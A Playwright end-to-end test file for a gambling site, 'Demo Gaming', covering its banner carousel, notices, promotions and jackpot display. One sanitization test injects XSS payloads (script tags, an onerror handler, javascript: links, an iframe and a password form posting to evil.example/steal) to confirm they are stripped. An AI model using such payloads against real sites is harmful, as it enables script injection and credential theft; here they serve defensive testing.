/**
 * The content half of home and its pages (issue 26, decision 045), scripts on and off: the banner
 * carousel (a scroll row without scripts; with scripts it turns every 2500 ms and holds on hover),
 * a banner's press by its linkageType, the notice strip and the notice viewer (/news: ten a page,
 * one open at a time), the promotions (details, ?id=, joining through the login) and the
 * operator's HTML cleaned before it reaches a page.
 */
import { expect, test, type Page } from "@playwright/test";
import { BASE_URL, landedAt, loginAs, open, PLAYER, reference, scriptsOn, submitLogin } from "./helpers";

/**
 * Stops the page's installed clock where it is, once the page has loaded (a clock installed
 * flows by itself; stopped before the load, the page's own timers would wait for the test).
 */
async function stopClock(page: Page) {
  // A moment ahead: the page's clock flows on while this call travels.
  await page.clock.pauseAt((await page.evaluate(() => Date.now())) + 1000);
}

/** Moves the pointer off and the focus out of the carousel: nothing holds it. */
async function letGo(page: Page) {
  await page.mouse.move(0, 0);
  await page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
}

const slides = (page: Page) => page.locator(".banners__track > li");
const track = (page: Page) => page.locator(".banners__track");

test.describe("home's banners", () => {
  test("every banner is there, the first in view; with scripts the row turns by itself and holds under the pointer", async ({
    page,
  }, testInfo) => {
    if (scriptsOn(testInfo)) await page.clock.install();
    await open(page, "/", testInfo);
    await expect(slides(page)).toHaveCount(5);
    const left = () => track(page).evaluate((el) => Math.round(el.scrollLeft / el.clientWidth));
    if (!scriptsOn(testInfo)) {
      await expect(slides(page).first()).toBeInViewport();
      expect(await left()).toBe(0);
      // No controls to press: the row is scrolled by hand.
      await expect(page.locator(".banner-carousel__controls")).toHaveCount(0);
      return;
    }
    // From the first banner, with the clock in the test's hands.
    await stopClock(page);
    await page.getByRole("button", { name: "第 1 张，共 5 张" }).click();
    await letGo(page);
    await expect.poll(left).toBe(0);
    await page.clock.runFor(2600);
    await expect.poll(left).toBe(1);
    // Under the pointer it holds still.
    await track(page).hover();
    await page.clock.runFor(6000);
    expect(await left()).toBe(1);
    await letGo(page);
    await page.clock.runFor(2600);
    await expect.poll(left).toBe(2);
    // A dot goes to its banner; past the last the row starts again.
    await page.getByRole("button", { name: "第 5 张，共 5 张" }).click();
    await expect.poll(left).toBe(4);
    await letGo(page);
    await page.clock.runFor(2600);
    await expect.poll(left).toBe(0);
  });

  test("a promotion's banner opens that promotion; a portal path is followed in place", async ({ page }, testInfo) => {
    await open(page, "/", testInfo);
    await slides(page).nth(2).locator("a").click();
    await expect(page).toHaveURL(`${BASE_URL}/promotions?id=3002`);
    await expect(page.getByRole("heading", { name: "首存 100% 红利" }).first()).toBeVisible();
    await open(page, "/", testInfo);
    await slides(page).first().locator("a").click();
    await expect(page).toHaveURL(`${BASE_URL}/register`);
  });

  test("an off-site banner carries a player's username, and a guest's none", async ({ page }, testInfo) => {
    const away = async () => {
      const response = await page.request.get(`${BASE_URL}/banner/102`, { maxRedirects: 0 });
      expect(response.status()).toBe(302);
      expect(response.headers()["cache-control"]).toContain("no-store");
      return response.headers().location;
    };
    expect(await away()).toBe("https://example.com/news");
    await loginAs(page, PLAYER, testInfo);
    expect(await away()).toBe("https://example.com/news?username=player01");
    // Only the operator's own banners are followed.
    expect((await page.request.get(`${BASE_URL}/banner/101`, { maxRedirects: 0 })).status()).toBe(404);
    expect((await page.request.get(`${BASE_URL}/banner/https%3A%2F%2Fevil.example`, { maxRedirects: 0 })).status()).toBe(404);
  });

  test("a game's banner launches the game for a player and asks a guest to log in", async ({ page }, testInfo) => {
    await open(page, "/", testInfo);
    if (scriptsOn(testInfo)) {
      await slides(page).nth(4).locator("button").click();
      // The pop-up login, as any Play of a guest.
      await expect(page.getByRole("dialog")).toBeVisible();
    } else {
      // The game's window opens, and a guest is asked to log in there.
      const [popup] = await Promise.all([page.waitForEvent("popup"), slides(page).nth(4).locator("button").click()]);
      await expect(popup).toHaveURL(/\/login\?redirectTo=/);
    }
  });
});

test("the jackpot ticks up with scripts and is a fixed figure without; the winner board shows the top 20", async ({ page }, testInfo) => {
  if (scriptsOn(testInfo)) await page.clock.install();
  await open(page, "/", testInfo);
  if (scriptsOn(testInfo)) await stopClock(page);
  const jackpot = page.getByTestId("jackpot");
  const figure = /^¥[\d,]+\.\d{2}$/;
  const first = (await jackpot.textContent())!;
  expect(first).toMatch(figure);
  const value = (text: string) => Number(text.replace(/[^\d.]/g, ""));
  expect(value(first)).toBeLessThan(1e8);
  if (scriptsOn(testInfo)) {
    await page.clock.runFor(3000);
    await expect.poll(async () => value((await jackpot.textContent())!)).toBeGreaterThan(value(first));
    expect(await jackpot.textContent()).toMatch(figure);
  }
  const rows = page.locator(".winner-board tbody tr");
  await expect(rows).toHaveCount(20);
  await expect(rows.first().locator("td").first()).toHaveText("1");
  await expect(rows.first().locator(".winner-board__amount")).toHaveText(figure);
});

test.describe("notices", () => {
  test("home's strip leads to the notice, open on its page; one row opens at a time", async ({ page }, testInfo) => {
    // The strip runs sideways (and holds under the pointer); a still one is clicked the same way.
    await page.emulateMedia({ reducedMotion: "reduce" });
    await open(page, "/", testInfo);
    const first = page.locator(".notice-strip__list a").first();
    const title = (await first.textContent())!;
    await first.click();
    await expect(page).toHaveURL(/\/news\?id=1001/);
    const opened = page.locator("details.notice-row[open]");
    await expect(opened).toHaveCount(1);
    await expect(opened.locator("summary")).toContainText(title);
    // Another row opens and the first closes (the browser's <details name>).
    await page.locator("details.notice-row summary").nth(3).click();
    await expect(opened).toHaveCount(1);
    await expect(page.locator("details.notice-row").nth(3)).toHaveAttribute("open", "");
  });

  test("ten a page; the strip goes to page 3 and a notice of page 3 opens there", async ({ page }, testInfo) => {
    await open(page, "/news", testInfo);
    await expect(page.locator("details.notice-row")).toHaveCount(10);
    const strip = page.getByRole("navigation", { name: "公告分页" });
    await strip.getByRole("link", { name: "3", exact: false }).last().click();
    await expect(page).toHaveURL(`${BASE_URL}/news?page=3`);
    await expect(page.locator("details.notice-row")).toHaveCount(4);
    await expect(strip.locator("[aria-current=page]")).toHaveText("3");
    await open(page, "/news?id=1024", testInfo);
    await expect(page.getByRole("navigation", { name: "公告分页" }).locator("[aria-current=page]")).toHaveText("3");
    await expect(page.locator("#notice-1024")).toHaveAttribute("open", "");
  });
});

test.describe("promotions", () => {
  test("a promotion's details open in place; ?id= opens it over the grid (a panel without scripts)", async ({ page }, testInfo) => {
    await open(page, "/promotions", testInfo);
    await expect(page.locator(".promotion-card")).toHaveCount(8);
    const card = page.locator(".promotion-card").nth(1);
    await card.getByText("详情").click();
    await expect(card.locator(".operator-html table")).toBeVisible();
    await card.getByRole("link", { name: "首存 100% 红利" }).click();
    await expect(page).toHaveURL(`${BASE_URL}/promotions?id=3002`);
    if (scriptsOn(testInfo)) {
      const dialog = page.locator("dialog.modal[open]");
      await expect(dialog.getByRole("heading", { name: "首存 100% 红利" })).toBeVisible();
      await page.keyboard.press("Escape");
      await expect(dialog).toHaveCount(0);
      await expect(page).toHaveURL(`${BASE_URL}/promotions`);
      // A hash opens it too.
      await page.goto(`${BASE_URL}/promotions#3004`);
      await expect(page.locator("dialog.modal[open]").getByRole("heading", { level: 2 })).toBeVisible();
    } else {
      await expect(page.locator(".promotion-detail h2")).toHaveText("首存 100% 红利");
      await page.getByRole("link", { name: "返回优惠活动" }).click();
      await expect(page).toHaveURL(`${BASE_URL}/promotions`);
    }
  });

  test("the activity centre's tabs keep the grid to a category; a promotion opens within it and comes back to it", async ({
    page,
  }, testInfo) => {
    await open(page, "/promotion", testInfo);
    await expect(page.getByRole("heading", { level: 1 })).toHaveText("活动中心");
    const tabs = page.getByRole("navigation", { name: "活动分类" }).getByRole("link");
    await expect(tabs).toHaveText(["全部", "最新活动", "存款优惠", "返水", "VIP 专享"]);
    await expect(tabs.first()).toHaveAttribute("aria-current", "page");
    const cards = page.locator(".promotion-grid > li");
    const total = await cards.count();
    await tabs.filter({ hasText: "存款优惠" }).click();
    await expect(page).toHaveURL(`${BASE_URL}/promotion?t=DEPOSIT`);
    await expect(tabs.filter({ hasText: "存款优惠" })).toHaveAttribute("aria-current", "page");
    await expect(cards).toHaveCount(2);
    expect(total).toBeGreaterThan(2);
    await cards.first().getByRole("heading").getByRole("link").click();
    await expect(page).toHaveURL(/\/promotion\?t=DEPOSIT&id=\d+$/);
    if (scriptsOn(testInfo)) {
      await page.keyboard.press("Escape");
    } else {
      await page.getByRole("link", { name: "返回优惠活动" }).click();
    }
    await expect(page).toHaveURL(`${BASE_URL}/promotion?t=DEPOSIT`);
    await expect(cards).toHaveCount(2);
  });

  test("a guest joins through the login and lands on the promotion type's page", async ({ page }, testInfo) => {
    await open(page, "/promotions?id=3008", testInfo);
    const scope = scriptsOn(testInfo) ? page.locator("dialog.modal[open]") : page.locator(".promotion-detail");
    await scope.getByRole("link", { name: "登录后参加" }).click();
    await expect(page).toHaveURL(/\/login\?redirectTo=/);
    await submitLogin(page, PLAYER);
    await expect(page).toHaveURL(landedAt("/member/rewardCenter?tab=signInTask"));
  });

  test("an unknown id says so; the operator's HTML is cleaned before it reaches the page", async ({ page }, testInfo) => {
    const violations: string[] = [];
    page.on("console", (message) => {
      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
    });
    const hits: string[] = [];
    await page.route("https://evil.example/**", (route) => {
      hits.push(route.request().url());
      return route.abort();
    });
    const { id } = await reference("/__reference/announcements", {
      kind: "promotion",
      title: "<b>Hostile</b> promo",
      promotionType: "LOGIN",
      content:
        '<p style="position:fixed;inset:0">Hi</p><script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">' +
        '<a href="javascript:window.__pwned=3">x</a><iframe src="https://evil.example/f"></iframe>' +
        '<form action="https://evil.example/steal"><input name=password></form><img src="https://evil.example/p.png">',
    });
    try {
      await open(page, `/promotions?id=${id}`, testInfo);
      const scope = scriptsOn(testInfo) ? page.locator("dialog.modal[open]") : page.locator(".promotion-detail");
      await expect(scope.getByRole("heading", { name: "Hostile promo" })).toBeVisible();
      const html = await scope.locator(".operator-html").innerHTML();
      expect(html).not.toMatch(/<script|onerror|javascript:|<iframe|<form|style=/i);
      expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
      expect(violations).toEqual([]);
      // An https image of another host is allowed by img-src and harmless; nothing else reached that host.
      expect(hits.filter((url) => !url.endsWith("/p.png"))).toEqual([]);
      await open(page, "/promotions?id=999999", testInfo);
      await expect(page.getByText("该活动已结束或不存在")).toBeVisible();
    } finally {
      await reference("/__reference/announcements", { remove: [id] });
    }
  });
});

test("each indexable page has its own title and description, in the page's language", async ({ page }, testInfo) => {
  const pages = [
    ["/", "首页 - Demo Gaming"],
    ["/lott", "彩票大厅 - Demo Gaming"],
    ["/news", "系统公告 - Demo Gaming"],
    ["/promotions", "优惠活动 - Demo Gaming"],
    ["/help", "帮助中心 - Demo Gaming"],
    ["/download", "APP 下载 - Demo Gaming"],
    ["/promotions?lng=EN", "Promotions - Demo Gaming"],
  ];
  for (const [path, title] of pages) {
    await open(page, path, testInfo);
    await expect(page, path).toHaveTitle(title);
    await expect(page.locator('meta[name="description"]'), path).toHaveCount(1);
    expect((await page.locator('meta[name="description"]').getAttribute("content"))!.length, path).toBeGreaterThan(20);
  }
});
